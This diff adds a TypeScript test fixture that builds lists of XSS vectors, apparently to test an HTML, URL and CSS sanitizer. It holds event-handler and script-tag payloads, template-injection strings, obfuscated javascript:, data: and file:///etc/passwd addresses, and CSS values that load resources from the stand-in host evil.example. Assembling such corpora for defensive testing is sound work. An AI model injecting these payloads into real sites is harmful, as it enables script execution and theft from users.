@@ -1,0 +1,132 @@
+/** Texts, addresses and colours by which somebody would smuggle something into a page. `hack()` tells on itself. */
+
+const handlers: Readonly<Record<string, string>> = {
+  script: '>hack()</script',
+  'script src': '=//evil.example/x.js></script',
+  img: ' src=x onerror=hack()',
+  'img/src': '=x/onerror=hack()',
+  svg: ' onload=hack()',
+  'svg><script': '>hack()</script',
+  'svg><animate': ' onbegin=hack() attributeName=x dur=1s',
+  'svg><a': ' xlink:href="javascript:hack()"><text>x</text></a',
+  iframe: ' src="javascript:parent.hack()"',
+  'iframe srcdoc': '="<script>parent.hack()</script>"',
+  object: ' data="javascript:hack()"',
+  embed: ' src="javascript:hack()"',
+  video: '><source onerror=hack()>',
+  audio: ' src=x onerror=hack()',
+  details: ' open ontoggle=hack()',
+  body: ' onload=hack()',
+  input: ' autofocus onfocus=hack()',
+  select: ' autofocus onfocus=hack()',
+  textarea: ' autofocus onfocus=hack()',
+  button: ' autofocus onfocus=hack()',
+  marquee: ' onstart=hack()',
+  style: '>*{background:url("javascript:hack()")}</style',
+  'style onload': '=hack()></style',
+  link: ' rel=stylesheet href="javascript:hack()" onerror=hack()',
+  base: ' href="javascript:hack()//"',
+  meta: ' http-equiv=refresh content="0;url=javascript:hack()"',
+  form: ' action="javascript:hack()"><input type=submit',
+  math: ' href="javascript:hack()"',
+  a: ' href="javascript:hack()"',
+  'a style': '="position:fixed;inset:0" href="javascript:hack()"',
+  template: ' shadowrootmode=open><script>hack()</script></template',
+  div: ' style="background:url(javascript:hack())" onmouseover=hack()',
+  'custom-element': ' onclick=hack() tabindex=0 autofocus onfocus=hack()',
+  'journey-map': ' src="data:application/json,{}"',
+};
+
+const breakers = ['', '">', "'>", '</li></ul>', '</style>', '--><!-->', ']]>'];
+
+const templates = [
+  '$' + '{hack()}',
+  '{{constructor.constructor("hack()")()}}',
+  '<%= hack() %>',
+  '#{hack()}',
+  '{% raw %}{{hack()}}',
+  '<!--?lit$000000000$-->',
+  '<?lit$000000000$>',
+  'lit$000000000$',
+  '{{lit-123}}',
+  '\u2028hack()\u2029',
+  '&lt;img src=x onerror=hack()&gt;',
+  '&#60;script&#62;hack()&#60;/script&#62;',
+  '\\u003cscript\\u003ehack()\\u003c/script\\u003e',
+  '+ADw-script+AD4-hack()+ADw-/script+AD4-',
+  '";hack();//',
+  "';hack();//",
+  '`;hack();//',
+  'url(javascript:hack())',
+  'expression(hack())',
+  '@import "//evil.example/x.css"',
+  ':host{display:none}',
+  '}*{display:none}',
+  'javascript:hack()',
+  '\u202e<script>hack()</script>',
+  '\u0000<script>hack()</script>',
+];
+
+export const textVectors: readonly string[] = [
+  ...Object.entries(handlers).flatMap(([tag, rest]) =>
+    breakers.map(breaker => `${breaker}<${tag}${rest}>`),
+  ),
+  ...templates,
+];
+
+const schemes = [
+  'javascript:hack()',
+  'javascript://example.org/%0ahack()',
+  'vbscript:hack()',
+  'data:text/html,<script>parent.hack()</script>',
+  'data:text/html;base64,PHNjcmlwdD5oYWNrKCk8L3NjcmlwdD4=',
+  'data:image/svg+xml,<svg onload="hack()"/>',
+  'blob:http://example.org/1',
+  'file:///etc/passwd',
+  'filesystem:http://example.org/x',
+  'view-source:javascript:hack()',
+  'about:blank',
+  'ws://example.org',
+  'intent://example.org#Intent;end',
+];
+
+const disguises: readonly ((address: string) => string)[] = [
+  address => address,
+  address => address.toUpperCase(),
+  address => ` ${address}`,
+  address => `\u0001${address}`,
+  address => `\u00a0${address}`,
+  address => `\t\n${address}`,
+  address => address.replace(':', '\t:'),
+  address => address.replace(':', ':\n'),
+  address => address[0] + '\n' + address.slice(1),
+  address => address[0] + '\u0000' + address.slice(1),
+  address => `&#${address.charCodeAt(0)};${address.slice(1)}`,
+  address => `%${address.charCodeAt(0).toString(16)}${address.slice(1)}`,
+  address => `https:${address}`,
+  address => `//example.org/${address}`,
+  address => `?${address}`,
+  address => `#${address}`,
+];
+
+export const addressVectors: readonly string[] = schemes.flatMap(address =>
+  disguises.map(disguise => disguise(address)),
+);
+
+export const colorVectors: readonly string[] = [
+  'url(//evil.example/x.png)',
+  'image-set("//evil.example/x.png" 1x)',
+  'var(--secret)',
+  'env(safe-area-inset-top)',
+  'attr(data-secret)',
+  'red; background: url(//evil.example)',
+  'red}*{display:none}',
+  'red/**/',
+  'expression(hack())',
+  'rgb(var(--r), 0, 0)',
+  'color-mix(in srgb, red, url(x))',
+  '#fff; --_ink: red',
+  'light-dark(url(x), red)',
+  'rgb(0 0 0 / calc(1 + url(x)))',
+  '<script>hack()</script>',
+];
